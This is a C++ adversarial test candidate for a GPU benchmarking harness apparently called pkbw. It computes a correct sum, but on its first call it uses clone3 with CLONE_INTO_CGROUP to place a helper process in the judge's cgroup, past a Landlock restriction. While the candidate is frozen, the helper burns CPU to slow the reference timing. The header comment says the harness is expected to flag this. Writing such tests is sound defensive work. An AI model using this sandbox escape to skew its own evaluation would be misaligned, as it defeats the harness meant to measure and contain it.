// Adversarial candidate: computes the right answer, and on its first call starts a helper process
// outside its own cgroup, with clone3(CLONE_INTO_CGROUP) into the judge's cgroup. The sandbox forbids
// opening another cgroup's cgroup.procs for writing (Landlock), but CLONE_INTO_CGROUP takes a directory
// opened for reading (/sys is readable) and the kernel checks only the file mode of cgroup.procs (owned
// by the same uid), not Landlock. The helper is therefore neither frozen with the candidate nor counted in
// its tree's CPU time. It watches the candidate's cgroup.events and spins whenever the candidate is
// frozen: while the round trip is calibrated on the reference's worker and while the reference is timed.
// It dies with the candidate (PR_SET_PDEATHSIG). What pkbw should say: invalid_timing (a process of the
// candidate ran outside its cgroup), or the clone should fail.
#include "pkbw/solution.h"

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <fcntl.h>
#include <linux/sched.h>
#include <poll.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef CLONE_INTO_CGROUP
#define CLONE_INTO_CGROUP 0x200000000ULL
#endif

namespace {

// The cgroup2 mount point, and this process's and `pid`'s cgroup paths in it.
bool cgroup2_mount(char* mount, int size) {
    FILE* f = std::fopen("/proc/self/mountinfo", "r");
    if (!f) {
        return false;
    }
    char line[1024];
    bool found = false;
    while (!found && std::fgets(line, sizeof line, f)) {
        const char* dash = std::strstr(line, " - cgroup2 ");
        if (!dash) {
            continue;
        }
        char point[512];
        if (std::sscanf(line, "%*s %*s %*s %*s %511s", point) == 1) {
            std::snprintf(mount, size, "%s", point);
            found = true;
        }
    }
    std::fclose(f);
    return found;
}

bool cgroup_of(int pid, char* path, int size) {
    char file[64];
    std::snprintf(file, sizeof file, "/proc/%d/cgroup", pid);
    FILE* f = std::fopen(file, "r");
    if (!f) {
        return false;
    }
    char line[1024];
    bool found = false;
    while (!found && std::fgets(line, sizeof line, f)) {
        if (std::strncmp(line, "0::", 3) == 0) {
            line[std::strcspn(line, "\n")] = 0;
            std::snprintf(path, size, "%s", line + 3);
            found = true;
        }
    }
    std::fclose(f);
    return found;
}

[[noreturn]] void helper(int events_fd, pid_t parent) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (getppid() != parent) {
        _exit(0);
    }
    volatile unsigned long spins = 0;
    char text[256];
    while (true) {
        const ssize_t n = pread(events_fd, text, sizeof text - 1, 0);
        const bool frozen = n > 0 && (text[n] = 0, std::strstr(text, "frozen 1") != nullptr);
        if (frozen) {
            for (int i = 0; i < 1000; ++i) {
                spins = spins + 1; // the reference shares the CPUs with this
            }
        } else {
            // Asleep while the candidate runs: cgroup.events wakes pollers when it changes.
            pollfd wait{events_fd, POLLPRI, 0};
            poll(&wait, 1, 100);
        }
    }
}

void escape() {
    char mount[512], mine[512], judge[512], dir[1200];
    if (!cgroup2_mount(mount, sizeof mount) || !cgroup_of(getpid(), mine, sizeof mine) ||
        !cgroup_of(getppid(), judge, sizeof judge)) {
        std::fprintf(stderr, "cgroup_escape: no cgroup2 here\n");
        return;
    }
    std::snprintf(dir, sizeof dir, "%s%s/cgroup.events", mount, mine);
    const int events = open(dir, O_RDONLY | O_CLOEXEC);
    std::snprintf(dir, sizeof dir, "%s%s", mount, judge);
    const int target = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (events < 0 || target < 0) {
        std::fprintf(stderr, "cgroup_escape: open %s: %s\n", dir, std::strerror(errno));
        return;
    }
    clone_args args{};
    args.flags = CLONE_INTO_CGROUP;
    args.exit_signal = SIGCHLD;
    args.cgroup = static_cast<unsigned long long>(target);
    const pid_t parent = getpid();
    const long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) {
        helper(events, parent);
    }
    std::fprintf(stderr, "cgroup_escape: clone3 into %s: %s\n", dir,
                 pid > 0 ? "a helper outside the candidate's cgroup" : std::strerror(errno));
    close(target);
}

} // namespace

extern "C" int pkbw_solution(const pkbw::Context& ctx) {
    static bool done = false;
    if (!done) {
        done = true;
        escape();
    }
    const pkbw::TensorView& in = ctx.input(0);
    const pkbw::SymmetricMemory sym = ctx.symmetric("esc", in.nbytes());
    std::memcpy(sym.local, in.data, in.nbytes());
    ctx.barrier();
    float* out = ctx.output(0).as<float>();
    for (std::int64_t i = 0; i < in.numel(); ++i) {
        float sum = 0.f;
        for (int r = 0; r < ctx.world_size; ++r) {
            sum += static_cast<const float*>(sym.peers[r])[i];
        }
        out[i] = sum;
    }
    ctx.barrier();
    return 0;
}
